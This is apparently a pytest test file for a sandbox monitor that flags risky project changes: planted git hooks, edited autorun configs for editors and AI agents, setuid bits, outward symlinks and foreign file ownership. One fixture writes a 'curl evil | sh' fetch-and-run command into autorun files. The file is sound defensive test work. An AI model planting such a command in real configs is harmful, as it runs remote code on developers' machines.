from __future__ import annotations

import os
import threading
from collections.abc import Callable
from pathlib import Path

import pytest

from hutch.secrets.surface import (
    PROTECTED_PATHS,
    Change,
    ProtectedSurface,
    diff,
    format_changes,
    protected_present,
    snapshot,
)

UID = os.getuid()


def touch(root: Path, rel: str, data: bytes = b"x", mode: int = 0o644) -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    path.chmod(mode)
    return path


def base_project(root: Path) -> None:
    """A project with a git dir, an ordinary source tree, and one of each
    dangerous thing already present before the session."""
    touch(root, ".git/HEAD", b"ref: refs/heads/main\n")
    touch(root, ".git/config", b"[core]\n\tbare = false\n")
    touch(root, ".git/hooks/pre-commit.sample", b"#!/bin/sh\n", 0o755)
    touch(root, ".git/objects/ab/cdef", b"blob")
    (root / ".git/refs/heads").mkdir(parents=True)
    touch(root, "src/main.py", b"print('hi')\n")
    touch(root, "scripts/run.sh", b"#!/bin/sh\n", 0o755)
    touch(root, "bin/tool", b"\x7fELF", 0o4755)
    touch(root, ".envrc", b"use nix\n")
    touch(root, ".vscode/settings.json", b"{}")
    touch(root, "hutch.toml", b"version = 1\n")
    (root / "old-link").symlink_to("/etc/hosts")
    (root / "local-link").symlink_to("src/main.py")


def session(root: Path, act: Callable[[], object]) -> tuple[Change, ...]:
    before = snapshot(root, UID)
    act()
    return diff(before, snapshot(root, UID), root)


def kinds(changes: tuple[Change, ...]) -> list[tuple[str, str]]:
    return [(c.kind, c.path) for c in changes]


# --------------------------------------------------------------------------
# protected_present


def test_nothing_protected_in_an_empty_project(tmp_path: Path) -> None:
    assert protected_present(tmp_path) == ProtectedSurface((), ())


def test_every_protected_path_is_found(tmp_path: Path) -> None:
    for rel in PROTECTED_PATHS:
        if rel in (".git/hooks", ".husky", ".vscode", ".idea", ".devcontainer"):
            (tmp_path / rel).mkdir(parents=True)
        else:
            touch(tmp_path, rel)
    touch(tmp_path, "src/ordinary.py")
    result = protected_present(tmp_path)
    assert result.paths == tuple(sorted(PROTECTED_PATHS))
    assert result.symlinks == ()


def test_git_commit_machinery_is_not_protected() -> None:
    for writable in (".git", ".git/index", ".git/objects", ".git/refs", ".git/HEAD", ".gitattributes"):
        assert writable not in PROTECTED_PATHS


def test_protected_symlinks_are_reported_apart(tmp_path: Path) -> None:
    home = tmp_path / "home"
    touch(home, ".claude/settings.json")
    project = tmp_path / "project"
    project.mkdir()
    (project / ".claude").symlink_to(home / ".claude", target_is_directory=True)
    (project / ".envrc").symlink_to(home / "envrc")
    touch(project, ".mcp.json")
    result = protected_present(project)
    assert result.paths == (".mcp.json",)
    # The link itself, once, even for protected names that do not exist below it.
    assert result.symlinks == (".claude", ".envrc")


def test_git_pointer_file_is_protected_but_git_dir_is_not(tmp_path: Path) -> None:
    touch(tmp_path, ".git", b"gitdir: /elsewhere/.git/worktrees/x\n")
    assert protected_present(tmp_path).paths == (".git",)
    other = tmp_path / "other"
    touch(other, ".git/config")
    assert protected_present(other).paths == (".git/config",)


def test_hooks_path_inside_project_is_protected(tmp_path: Path) -> None:
    touch(tmp_path, ".git/config", b'[core]\n\tbare = false\n\thooksPath = "scripts/git hooks" # managed\n')
    (tmp_path / "scripts/git hooks").mkdir(parents=True)
    assert protected_present(tmp_path).paths == (".git/config", "scripts/git hooks")


@pytest.mark.parametrize(
    "config",
    [
        b"[core]\n\thooksPath = /usr/share/git-hooks\n",
        b"[core]\n\thooksPath = ../shared-hooks\n",
        b'[core "x"]\n\thooksPath = .githooks\n',
        b"[alias]\n\thooksPath = .githooks\n",
        b"[core]\n#\thooksPath = .githooks\n",
    ],
)
def test_hooks_path_outside_or_not_core_is_ignored(tmp_path: Path, config: bytes) -> None:
    touch(tmp_path, ".git/config", config)
    (tmp_path / ".githooks").mkdir()
    (tmp_path.parent / "shared-hooks").mkdir(exist_ok=True)
    assert protected_present(tmp_path).paths == (".git/config",)


def test_hooks_path_key_is_case_insensitive_and_last_wins(tmp_path: Path) -> None:
    touch(tmp_path, ".git/config", b"[CORE]\n HOOKSPATH=first\n[core]\nhookspath = .githooks\n")
    (tmp_path / "first").mkdir()
    (tmp_path / ".githooks").mkdir()
    assert protected_present(tmp_path).paths == (".git/config", ".githooks")


def test_submodule_hooks_config_and_pointer_are_protected(tmp_path: Path) -> None:
    touch(tmp_path, ".git/config")
    touch(tmp_path, ".gitmodules")
    for gitdir, worktree in (
        (".git/modules/libs/foo", "../../../../libs/foo"),
        (".git/modules/libs/foo/modules/inner", "../../../../../../libs/foo/inner"),
    ):
        touch(tmp_path, f"{gitdir}/HEAD", b"ref: refs/heads/main\n")
        touch(tmp_path, f"{gitdir}/config", f"[core]\n\tworktree = {worktree}\n".encode())
        (tmp_path / gitdir / "hooks").mkdir()
    touch(tmp_path, "libs/foo/.git", b"gitdir: ../../.git/modules/libs/foo\n")
    touch(tmp_path, "libs/foo/inner/.git", b"gitdir: ../../../.git/modules/libs/foo/modules/inner\n")
    assert protected_present(tmp_path).paths == (
        ".git/config",
        ".git/modules/libs/foo/config",
        ".git/modules/libs/foo/hooks",
        ".git/modules/libs/foo/modules/inner/config",
        ".git/modules/libs/foo/modules/inner/hooks",
        ".gitmodules",
        "libs/foo/.git",
        "libs/foo/inner/.git",
    )


def test_a_fifo_in_place_of_git_config_does_not_hang(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    os.mkfifo(tmp_path / ".git/config")
    result: list[ProtectedSurface] = []
    worker = threading.Thread(target=lambda: result.append(protected_present(tmp_path)), daemon=True)
    worker.start()
    worker.join(timeout=10)
    assert result == [ProtectedSurface((".git/config",), ())]


# --------------------------------------------------------------------------
# snapshot and diff: negative controls


def test_unchanged_project_reports_nothing(tmp_path: Path) -> None:
    base_project(tmp_path)
    assert session(tmp_path, lambda: None) == ()


def test_ordinary_edits_and_new_plain_files_are_not_reported(tmp_path: Path) -> None:
    base_project(tmp_path)

    def act() -> None:
        touch(tmp_path, "src/main.py", b"print('changed')\n")
        touch(tmp_path, "src/new.py", b"x = 1\n")
        touch(tmp_path, "scripts/run.sh", b"#!/bin/sh\necho changed\n", 0o755)
        (tmp_path / "newdir/sub").mkdir(parents=True)
        (tmp_path / "src/alias.py").symlink_to("main.py")
        (tmp_path / "newdir/up").symlink_to("../src")
        (tmp_path / "src/main.py").chmod(0o600)

    assert session(tmp_path, act) == ()


def test_deletions_are_not_reported(tmp_path: Path) -> None:
    base_project(tmp_path)

    def act() -> None:
        (tmp_path / ".git/hooks/pre-commit.sample").unlink()
        (tmp_path / ".envrc").unlink()
        (tmp_path / "old-link").unlink()

    assert session(tmp_path, act) == ()


def test_objects_dir_is_not_recorded(tmp_path: Path) -> None:
    base_project(tmp_path)
    snap = snapshot(tmp_path, UID)
    assert ".git/objects" in snap.entries
    assert not any(p.startswith(".git/objects/") for p in snap.entries)
    assert "src/main.py" in snap.entries


# --------------------------------------------------------------------------
# each kind of change


def test_new_git_hook(tmp_path: Path) -> None:
    base_project(tmp_path)
    changes = session(tmp_path, lambda: touch(tmp_path, ".git/hooks/pre-commit", b"#!/bin/sh\n", 0o755))
    # Reported as a hook only, not again as a new executable.
    assert kinds(changes) == [("hook", ".git/hooks/pre-commit")]
    assert changes[0].detail == "new file (mode 0755)"


def test_hook_content_change_with_same_size_and_mtime(tmp_path: Path) -> None:
    base_project(tmp_path)
    hook = tmp_path / ".git/hooks/pre-commit.sample"
    st = hook.stat()

    def act() -> None:
        hook.write_bytes(b"#!/bin/bash")  # same length as before
        os.utime(hook, ns=(st.st_atime_ns, st.st_mtime_ns))

    changes = session(tmp_path, act)
    assert kinds(changes) == [("hook", ".git/hooks/pre-commit.sample")]
    assert changes[0].detail.startswith("modified file")


def test_hook_made_executable_is_a_hook_change(tmp_path: Path) -> None:
    base_project(tmp_path)
    touch(tmp_path, ".git/hooks/post-checkout", b"#!/bin/sh\n", 0o644)
    changes = session(tmp_path, lambda: (tmp_path / ".git/hooks/post-checkout").chmod(0o755))
    assert kinds(changes) == [("hook", ".git/hooks/post-checkout")]


@pytest.mark.parametrize(
    "rel",
    [".husky/pre-commit", "sub/.git/hooks/pre-push", "planted/hooks/pre-commit"],
)
def test_hooks_of_hook_managers_and_nested_repos(tmp_path: Path, rel: str) -> None:
    base_project(tmp_path)
    # A bare-shaped repository: git (and any git-aware shell prompt) runs it.
    touch(tmp_path, "planted/HEAD", b"ref: refs/heads/main\n")
    (tmp_path / "planted/objects").mkdir()
    (tmp_path / "planted/refs").mkdir()
    (tmp_path / "sub/.git").mkdir(parents=True)
    changes = session(tmp_path, lambda: touch(tmp_path, rel, b"#!/bin/sh\n", 0o755))
    assert kinds(changes) == [("hook", rel)]


def test_hooks_in_configured_hooks_path(tmp_path: Path) -> None:
    base_project(tmp_path)
    touch(tmp_path, ".git/config", b"[core]\n\thooksPath = tools/hooks\n")
    changes = session(tmp_path, lambda: touch(tmp_path, "tools/hooks/pre-commit", b"#!/bin/sh\n", 0o755))
    assert kinds(changes) == [("hook", "tools/hooks/pre-commit")]


def test_a_dir_named_hooks_in_a_plain_dir_is_not_a_hook(tmp_path: Path) -> None:
    base_project(tmp_path)
    changes = session(tmp_path, lambda: touch(tmp_path, "src/hooks/use_thing.py", b"x"))
    assert changes == ()


@pytest.mark.parametrize(
    "rel",
    [
        ".envrc",
        ".vscode/tasks.json",
        ".vscode/settings.json",
        ".idea/workspace.xml",
        ".devcontainer/devcontainer.json",
        ".claude/settings.json",
        ".claude/settings.local.json",
        ".mcp.json",
        "hutch.toml",
        ".git/config",
        ".gitmodules",
        ".pre-commit-config.yaml",
        ".gemini/settings.json",
        "sub/.git",
        "nested/.git/config",
    ],
)
def test_autorun_files_new_or_modified(tmp_path: Path, rel: str) -> None:
    base_project(tmp_path)
    (tmp_path / "nested/.git").mkdir(parents=True)
    changes = session(tmp_path, lambda: touch(tmp_path, rel, b'{ "command": "curl evil | sh" }'))
    assert kinds(changes) == [("autorun", rel)]


def test_autorun_symlink_is_reported_with_its_target(tmp_path: Path) -> None:
    base_project(tmp_path)
    changes = session(tmp_path, lambda: (tmp_path / ".mcp.json").symlink_to("src/main.py"))
    assert changes == (Change("autorun", ".mcp.json", "new symlink -> src/main.py"),)


def test_similar_names_outside_the_surface_are_not_autorun(tmp_path: Path) -> None:
    base_project(tmp_path)

    def act() -> None:
        touch(tmp_path, "docs/.envrc.md")
        touch(tmp_path, "src/.vscode-notes")
        touch(tmp_path, "src/config")  # `config` outside a git dir
        touch(tmp_path, "app/.claude/settings.json")  # only the project's own counts
        touch(tmp_path, ".git/refs/heads/config", b"0" * 40)  # a branch named config

    assert session(tmp_path, act) == ()


def test_new_executable_and_exec_bit_added(tmp_path: Path) -> None:
    base_project(tmp_path)

    def act() -> None:
        touch(tmp_path, "scripts/new.sh", b"#!/bin/sh\n", 0o700)
        (tmp_path / "src/main.py").chmod(0o754)

    changes = session(tmp_path, act)
    assert changes == (
        Change("executable", "scripts/new.sh", "new executable file (mode 0700)"),
        Change("executable", "src/main.py", "exec bit added (0644 -> 0754)"),
    )


def test_setuid_and_setgid_bits(tmp_path: Path) -> None:
    base_project(tmp_path)

    def act() -> None:
        touch(tmp_path, "x/suid", b"", 0o4755)
        (tmp_path / "scripts/run.sh").chmod(0o2755)
        (tmp_path / "shared").mkdir()
        (tmp_path / "shared").chmod(0o2775)  # setgid dirs only pass on a group

    changes = session(tmp_path, act)
    assert changes == (
        Change("setuid", "scripts/run.sh", "setgid bit set (mode 2755)"),
        Change("setuid", "x/suid", "setuid bit set (mode 4755)"),
    )


@pytest.mark.parametrize(
    ("rel", "target", "why"),
    [
        ("abs", "/etc/passwd", "absolute target"),
        ("deep/up", "../../outside", "points above the project root"),
        ("deep/chain", "../old-link", "resolves to"),
    ],
)
def test_links_that_leave_the_project(tmp_path: Path, rel: str, target: str, why: str) -> None:
    project = tmp_path / "p"
    base_project(project)
    (project / "deep").mkdir()
    changes = session(project, lambda: (project / rel).symlink_to(target))
    assert kinds(changes) == [("link-outside", rel)]
    assert changes[0].detail.startswith(f"-> {target} ({why}")


def test_retargeted_link_is_checked_again(tmp_path: Path) -> None:
    base_project(tmp_path)

    def act() -> None:
        (tmp_path / "local-link").unlink()
        (tmp_path / "local-link").symlink_to("/home")

    assert kinds(session(tmp_path, act)) == [("link-outside", "local-link")]


def test_foreign_owner_is_relative_to_the_sandbox_uid(tmp_path: Path) -> None:
    base_project(tmp_path)
    before = snapshot(tmp_path, UID + 1)
    touch(tmp_path, "made-in-session.txt")
    changes = diff(before, snapshot(tmp_path, UID + 1), tmp_path)
    # Files that were already foreign before are not reported again.
    assert changes == (Change("foreign-owner", "made-in-session.txt", f"owned by uid {UID}, not {UID + 1}"),)


@pytest.mark.skipif(os.geteuid() != 0, reason="chown to another uid needs root")
def test_foreign_owner_after_chown(tmp_path: Path) -> None:
    base_project(tmp_path)
    changes = session(tmp_path, lambda: os.chown(tmp_path / "src/main.py", 12345, -1))
    assert changes == (Change("foreign-owner", "src/main.py", f"owned by uid 12345, not {UID}"),)


# --------------------------------------------------------------------------
# format_changes


def test_format_orders_by_danger_and_escapes_names() -> None:
    changes = [
        Change("executable", "a.sh", "new executable file (mode 0755)"),
        Change("link-outside", "l", "-> /etc (absolute target)"),
        Change("hook", ".git/hooks/x\nhook ok", "new file (mode 0755)"),
        Change("autorun", ".envrc", "modified file (mode 0644)"),
        Change("foreign-owner", "f", "owned by uid 0, not 1000"),
        Change("setuid", "s", "setuid bit set (mode 4755)"),
    ]
    lines = format_changes(changes).split("\n")
    assert [line.split()[0] for line in lines] == [
        "hook",
        "autorun",
        "setuid",
        "foreign-owner",
        "link-outside",
        "executable",
    ]
    assert lines[0] == "hook          '.git/hooks/x\\nhook ok'  new file (mode 0755)"


def test_format_lists_vendored_paths_last_and_caps_each_kind() -> None:
    changes = [Change("executable", f"node_modules/p/bin{i}", "new") for i in range(25)]
    changes.append(Change("executable", "zz/mine.sh", "new"))
    text = format_changes(changes, limit=3)
    assert text.split("\n") == [
        "executable    zz/mine.sh  new",
        "executable    node_modules/p/bin0  new",
        "executable    node_modules/p/bin1  new",
        "executable    ... and 23 more",
    ]


def test_format_nothing_is_empty() -> None:
    assert format_changes(()) == ""
